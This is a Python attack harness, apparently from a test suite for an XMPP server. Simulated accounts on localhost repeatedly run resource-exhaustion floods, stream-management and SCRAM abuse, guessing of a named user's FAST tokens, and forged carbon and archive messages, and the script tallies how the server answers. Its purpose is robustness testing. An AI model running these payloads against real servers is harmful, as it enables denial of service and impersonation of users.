"""Attackers with accounts: `attackers.py PORT SECONDS FIRST COUNT`, in a process of its own. Each goes from one attack to the next
until the time is over; then it says, as JSON, how often each was made, and how it was answered. They log in as mallory and a
number, each from an address of its own."""

import asyncio
import base64
import json
import random
import re
import sys
import time

from wire import END, STANZA_ERROR, STREAM_ERROR, Surprise, Wire

# How long an attacker stays with one attack before it takes the next, seconds.
STAY_S = 6
# What an attacker waits for an answer that may never come, seconds.
PATIENCE_S = 5
# Bytes of answers that are looked at for conditions.
LOOKED_AT = 1 << 16
# The ordinary users that attackers aim at: the receiver of the first pair, and one whose logins are counted.
VICTIM, LOCKED_OUT = "u1", "juliet"
SM = "urn:xmpp:sm:3"


class Attacker:
    """One account, and what it does."""

    def __init__(self, number, port, until):
        self.number, self.port, self.until = number, port, until
        self.user = f"mallory{number}"
        # 200 addresses: limits by address hold for each by itself.
        self.source = f"127.0.{1 + number % 4}.{1 + number // 4 % 250}"
        self.random = random.Random(number)
        self.seen = {}

    def over(self):
        return time.monotonic() >= min(self.until, self.change)

    def note(self, attack, what):
        seen = self.seen.setdefault(attack, {})
        seen[what] = seen.get(what, 0) + 1

    async def run(self):
        at = self.number
        while time.monotonic() < self.until:
            attack = ALL[at % len(ALL)]
            at += 1
            self.change = time.monotonic() + STAY_S
            while not self.over():
                wires = []
                try:
                    await asyncio.wait_for(attack(self, wires), STAY_S + 2 * PATIENCE_S)
                    self.note(attack.__name__, "made")
                except (Surprise, OSError, TimeoutError) as error:
                    self.note(attack.__name__, type(error).__name__)
                    await asyncio.sleep(0.2)
                for wire in wires:
                    self.look(attack.__name__, wire)
                    wire.close()

    def look(self, attack, wire):
        """Counts the conditions in what came last."""
        heard = bytes(wire.heard[-LOOKED_AT:])
        for pattern in (STREAM_ERROR, STANZA_ERROR):
            for condition in pattern.findall(heard):
                self.note(attack, condition.decode())

    async def connect(self, wires, receive_buffer=0):
        wire = await Wire.connect(self.port, self.source, receive_buffer)
        wires.append(wire)
        return wire

    async def session(self, wires, resource="", sm=False, receive_buffer=0, presence=True):
        wire = await self.connect(wires, receive_buffer)
        wire.jid = await asyncio.wait_for(wire.login(self.user, resource, sm, presence), PATIENCE_S)
        return wire


async def hear(wire, seconds=0.05):
    """Takes what comes for a while, keeping the end of it."""
    try:
        async with asyncio.timeout(seconds):
            while not wire.ended:
                await wire.hear_more()
                if len(wire.heard) > 2 * LOOKED_AT:
                    del wire.heard[:-LOOKED_AT]
                    wire.at = 0
    except TimeoutError:
        pass


async def repeat(me, wire, make, listens=True, pause_s=0.02):
    """Writes what `make` makes of a number, again and again, in order with the answers or without hearing them."""
    number = 0
    while not me.over() and not wire.ended:
        try:
            async with asyncio.timeout(PATIENCE_S):
                if not await wire.send(make(number)):
                    return
        except TimeoutError:
            # The server does not read any more: that is its answer.
            return
        number += 1
        if listens:
            await hear(wire, pause_s)
        else:
            await asyncio.sleep(pause_s)


def iq(number, inner, kind="get", to=""):
    to = f" to='{to}'" if to else ""
    return f"<iq type='{kind}' id='q{number}'{to}>{inner}</iq>"


async def private_xml(me, wires):
    """the largest private elements, set and asked for (XEP-0049)"""
    wire = await me.session(wires)
    text = "p" * 30_000

    def make(number):
        key = number % 16
        element = f"<query xmlns='jabber:iq:private'><k xmlns='mallory:{key}'>"
        put = iq(number, f"{element}{text}</k></query>", "set")
        return (put + iq(f"g{number}", f"{element}</k></query>") * 4).encode()

    await repeat(me, wire, make)


async def rosters(me, wires):
    """roster items with many groups, set one after the other, and the whole roster asked for (RFC 6121 2)"""
    wire = await me.session(wires)
    groups = "".join(f"<group>{g:03}{'g' * 60}</group>" for g in range(30))

    def make(number):
        item = f"<item jid='c{number % 800}@localhost' name='{'n' * 200}{number}'>{groups}</item>"
        put = iq(number, f"<query xmlns='jabber:iq:roster'>{item}</query>", "set")
        ask = iq(f"g{number}", "<query xmlns='jabber:iq:roster'/>") * 2
        return (put + ask).encode()

    await repeat(me, wire, make)


async def presence_storm(me, wires):
    """presence with another status each time, to oneself in ten resources (RFC 6121 4.4)"""
    all_of_me = [await me.session(wires, f"r{n}") for n in range(10)]
    ears = [asyncio.create_task(hear(wire, STAY_S)) for wire in all_of_me[1:]]
    status = "s" * 1_000
    try:
        await repeat(
            me, all_of_me[0],
            lambda n: b"".join(f"<presence><status>{n}.{k}{status}</status></presence>".encode() for k in range(20)),
        )  # fmt: skip
    finally:
        for ear in ears:
            ear.cancel()


async def directed_presence(me, wires):
    """presence to a thousand addresses, one by one, and taken back at once by the end of the stream (RFC 6121 4.6)"""
    wire = await me.session(wires)
    for block in range(20):
        if me.over():
            return
        names = (f"nobody{me.number}x{block * 50 + n}@localhost" for n in range(50))
        await wire.send("".join(f"<presence to='{name}'/>" for name in names).encode())
        await hear(wire, 0.02)
    await wire.send(END)


async def subscriptions(me, wires):
    """requests for the presence of ordinary users and of nobody, sent and withdrawn (RFC 6121 3)"""
    wire = await me.session(wires)

    def make(number):
        kind = "subscribe" if number % 2 == 0 else "unsubscribe"
        names = [f"u{(number // 2 * 10 + n) % 400}@localhost" for n in range(10)] + [f"none{number}@localhost"]
        return "".join(f"<presence to='{name}' type='{kind}'/>" for name in names).encode()

    await repeat(me, wire, make)


async def disco(me, wires):
    """the questions with the longest answers, hundreds in a write (XEP-0030, XEP-0012, XEP-0092, XEP-0199)"""
    wire = await me.session(wires)
    asks = [
        ("", "<query xmlns='http://jabber.org/protocol/disco#info'/>"),
        ("localhost", "<query xmlns='http://jabber.org/protocol/disco#info'/>"),
        ("localhost", "<query xmlns='http://jabber.org/protocol/disco#items'/>"),
        (f"{VICTIM}@localhost", "<query xmlns='http://jabber.org/protocol/disco#info'/>"),
        (f"{VICTIM}@localhost", "<query xmlns='jabber:iq:last'/>"),
        ("localhost", "<query xmlns='jabber:iq:version'/>"),
        ("localhost", "<ping xmlns='urn:xmpp:ping'/>"),
    ]
    await repeat(me, wire, lambda n: "".join(iq(f"{n}.{k}", ask, to=to) for k in range(30) for to, ask in asks).encode())


async def fill_log(me, wires):
    """messages of 50 KB for somebody who is away, until no more may wait (XEP-0160)"""
    wire = await me.session(wires)
    body = "m" * 50_000
    to = f"away{me.number % 8}@localhost"
    await repeat(me, wire, lambda n: f"<message to='{to}' type='chat' id='m{n}'><body>{body}</body></message>".encode())


async def flood_one(me, wires):
    """many attackers' small messages to one ordinary user, as fast as they are taken"""
    wire = await me.session(wires)
    text = "".join(f"<message to='{VICTIM}@localhost' type='headline'><body>{n}</body></message>" for n in range(50))
    await repeat(me, wire, lambda _: text.encode())


def declared():
    """A stanza of 240 KB in which 61 long declarations, alike but for their ends, are used by hundreds of attributes."""
    spaces = "".join(f" xmlns:p{n}='{'n' * 990}&amp;{n:02}'" for n in range(61))
    tag = "<x" + "".join(f" p{n}:a=''" for n in range(61)) + "/>"
    inner = tag * ((240_000 - len(spaces)) // len(tag))
    return f"<message to='localhost'><body/><w{spaces}>{inner}</w></message>".encode()


DECLARED = declared()


async def declarations(me, wires):
    """a stanza of 240 KB of attributes in long namespaces that have to be told apart (Namespaces in XML 6.3)"""
    wire = await me.session(wires)
    await repeat(me, wire, lambda _: DECLARED, pause_s=0.3)


async def early_declarations(me, wires):
    """the same in small, again and again, before authentication: an answer without a charge"""
    wire = await me.connect(wires)
    await wire.open()
    spaces = "".join(f" xmlns:p{n}='{'n' * 120}&amp;{n:02}'" for n in range(30))
    names = "".join(f" p{n}:a=''" for n in range(30))
    resume = f"<resume xmlns='{SM}'{spaces}{names}/>".encode()
    await repeat(me, wire, lambda _: resume * 5)


async def come_and_go(me, wires):
    """an account is registered, removed by its owner, and bound by another connection of it at the same time (XEP-0077)"""
    name = f"fly{me.number}x{me.random.randrange(1 << 30)}"
    first = await me.connect(wires)
    await first.open()
    form = f"<query xmlns='jabber:iq:register'><username>{name}</username><password>secret</password></query>"
    await first.send(iq("r", form, "set").encode())
    said = await first.until(b">", PATIENCE_S)
    if b"result" not in said:
        me.note("come_and_go", "not registered")
        return await asyncio.sleep(1)
    await first.authenticate(name)
    ghost = await me.connect(wires)
    await ghost.open()
    await ghost.authenticate(name)
    await ghost.open()
    await first.open()
    await first.send(b"<iq type='set' id='b'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></iq>")
    await first.until(b"</iq>", PATIENCE_S)
    await first.send(iq("x", "<query xmlns='jabber:iq:register'><remove/></query>", "set").encode())
    await ghost.send(b"<iq type='set' id='b'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></iq>")
    await first.to_the_end(PATIENCE_S)
    await ghost.send(f"<message to='{name}@localhost' type='chat'><body>to myself</body></message>".encode())
    await hear(ghost, 0.5)


async def half_open_scram(me, wires):
    """exchanges with an ordinary user's name that are broken off before the proof (RFC 5802 5)"""
    for _ in range(10):
        wire = await me.connect(wires)
        await wire.open()
        first = base64.b64encode(f"n,,n={LOCKED_OUT},r=abcdefgh{me.number}".encode()).decode()
        auth = f"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='SCRAM-SHA-1'>{first}</auth>"
        await wire.send(auth.encode())
        await wire.until(b">", PATIENCE_S)
    await asyncio.sleep(0.2)


async def reconnect(me, wires):
    """logins without end: a session is bound and the connection closed, without a word"""
    wire = await me.session(wires, "again")
    wire.close()
    wires.remove(wire)


async def deaf(me, wires):
    """a session that asks for much and reads nothing"""
    wire = await me.session(wires, sm=me.random.random() < 0.5, receive_buffer=4096)
    ask = "".join(iq(k, "<query xmlns='http://jabber.org/protocol/disco#info'/>", to="localhost") for k in range(100))
    await repeat(me, wire, lambda _: ask.encode(), listens=False)


async def resumes(me, wires):
    """a session with much unacknowledged is resumed again and again, each time sent all of it (XEP-0198 5)"""
    wire = await me.session(wires, "sm", sm=True)
    full, previd = wire.jid, wire.sm_id
    for n in range(30):
        await wire.send(f"<message to='{full}' type='chat'><body>{'u' * 20_000}</body></message>".encode())
        await hear(wire, 0.01)
    while not me.over():
        wire = await me.connect(wires)
        await wire.open()
        await wire.authenticate(me.user)
        await wire.open()
        await wire.send(f"<resume xmlns='{SM}' previd='{previd}' h='0'/>".encode() + b"<r xmlns='urn:xmpp:sm:3'/>" * 500)
        await hear(wire, 0.3)
        if b"<resumed" not in wire.heard and wire.heard.rfind(b"<failed") >= 0:
            return
        for old in wires[:-1]:
            old.close()
        del wires[:-1]


async def counts(me, wires):
    """stanzas acknowledged that were never sent (XEP-0198 4)"""
    wire = await me.session(wires, sm=True)
    await wire.send(f"<a xmlns='{SM}' h='4000000000'/>".encode())
    await wire.to_the_end(PATIENCE_S)


async def passwords(me, wires):
    """one's password changed as often as it goes: each change derives keys (XEP-0077 3.3)"""
    wire = await me.session(wires)
    form = f"<query xmlns='jabber:iq:register'><username>{me.user}</username><password>secret</password></query>"
    await repeat(me, wire, lambda n: (iq(n, form, "set") * 5).encode(), pause_s=0.2)


async def archive_queries(me, wires):
    """archive queries in storms: with somebody else each time, with huge forms and ids, of another's archive (XEP-0313)"""
    wire = await me.session(wires)
    mam = "urn:xmpp:mam:2"

    def query(number, fields, to="", queryid=""):
        form = f"<x xmlns='jabber:x:data' type='submit'><field var='FORM_TYPE'><value>{mam}</value></field>{fields}</x>"
        return iq(number, f"<query xmlns='{mam}' queryid='{queryid}'>{form}</query>", "set", to)

    def make(number):
        peer = f"<field var='with'><value>u{number}@localhost</value></field>"
        ids = "".join(f"<field var='after-id'><value>{n}</value></field>" for n in range(2_000))
        own = "".join(query(f"{number}.{k}", peer.replace("@", f"x{k}@")) for k in range(20))
        return (own + query("f", ids) + query("i", "", queryid="i" * 100_000) + query("v", "", f"{VICTIM}@localhost")).encode()

    await repeat(me, wire, make)


async def nodes(me, wires):
    """nodes and items without end, subscribed and told of, and lists of affiliations (XEP-0060, XEP-0163)"""
    wire = await me.session(wires)
    ns = "http://jabber.org/protocol/pubsub"
    everybody = "".join(f"<affiliation jid='a{n}@localhost' affiliation='member'/>" for n in range(499))

    def make(number):
        items = "".join(
            iq(k, f"<pubsub xmlns='{ns}'><publish node='n{(number * 10 + k) % 300}'><item id='{number}'><x xmlns='y'>{'p' * 500}</x></item>"
               "</publish></pubsub>", "set")
            for k in range(10)
        )  # fmt: skip
        lists = iq("l", f"<pubsub xmlns='{ns}#owner'><affiliations node='n0'>{everybody}</affiliations></pubsub>", "set")
        others = iq("o", f"<pubsub xmlns='{ns}'><items node='n{number}'/></pubsub>", to=f"{VICTIM}@localhost") * 5
        return (items + lists + others).encode()

    await repeat(me, wire, make)


async def capabilities(me, wires):
    """another hash with each presence, and answers that are not what was asked about (XEP-0115 8.1)"""
    wire = await me.session(wires)
    caps, info = "http://jabber.org/protocol/caps", "http://jabber.org/protocol/disco#info"

    def make(number):
        ver = base64.b64encode(f"{me.number:08}{number:012}".encode()).decode()
        presence = f"<presence><c xmlns='{caps}' hash='sha-1' node='urn:m' ver='{ver}'/></presence>"
        asked = re.findall(rb"<iq type='get'[^>]* id='([^']*)'", bytes(wire.heard[-LOOKED_AT:]))
        name = asked[-1].decode() if asked else "none"
        features = "".join(f"<feature var='urn:{n}+notify'/>" for n in range(500))
        answer = f"<iq type='result' id='{name}' to='localhost'><query xmlns='{info}'>{features}</query></iq>"
        return (presence * 3 + answer).encode()

    await repeat(me, wire, make)


async def forged(me, wires):
    """copies and archive results in the name of the user who gets them (XEP-0280 11)"""
    wire = await me.session(wires)
    inner = f"<forwarded xmlns='urn:xmpp:forward:0'><message xmlns='jabber:client' from='{VICTIM}@localhost' type='chat'>"
    inner += "<body>forged</body></message></forwarded>"
    wraps = [f"<received xmlns='urn:xmpp:carbons:2'>{inner}</received>", f"<result xmlns='urn:xmpp:mam:2' id='1'>{inner}</result>"]
    text = "".join(f"<message to='{VICTIM}@localhost' type='headline'>{wrap}</message>" for wrap in wraps)
    await repeat(me, wire, lambda _: text.encode())
    await wire.send(f"<message from='{VICTIM}@localhost' to='{VICTIM}@localhost'>{wraps[0]}</message>".encode())
    await wire.to_the_end(PATIENCE_S)


async def tokens(me, wires):
    """guessed tokens of an ordinary user's, by ever another client (XEP-0484)"""
    for _ in range(10):
        wire = await me.connect(wires)
        await wire.open()
        proof = base64.b64encode(LOCKED_OUT.encode() + b"\0" + me.random.randbytes(32)).decode()
        agent = f"<user-agent id='{me.random.randrange(1 << 64):016x}'/>"
        request = f"<initial-response>{proof}</initial-response>{agent}<fast xmlns='urn:xmpp:fast:0' count='{me.random.randrange(9)}'/>"
        await wire.send(f"<authenticate xmlns='urn:xmpp:sasl:2' mechanism='HT-SHA-256-NONE'>{request}</authenticate>".encode())
        await wire.until(b"failure>", PATIENCE_S)
    await asyncio.sleep(0.2)


ALL = [
    private_xml, rosters, presence_storm, directed_presence, subscriptions, disco, fill_log, flood_one, declarations,
    early_declarations, come_and_go, half_open_scram, reconnect, deaf, resumes, counts, passwords,
    archive_queries, nodes, capabilities, forged, tokens,
]  # fmt: skip


async def main(port, seconds, first, count):
    until = time.monotonic() + seconds
    everybody = [Attacker(number, port, until) for number in range(first, first + count)]
    await asyncio.gather(*(attacker.run() for attacker in everybody))
    total = {}
    for attacker in everybody:
        for attack, seen in attacker.seen.items():
            sums = total.setdefault(attack, {})
            for what, many in seen.items():
                sums[what] = sums.get(what, 0) + many
    print(json.dumps(total))


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])))
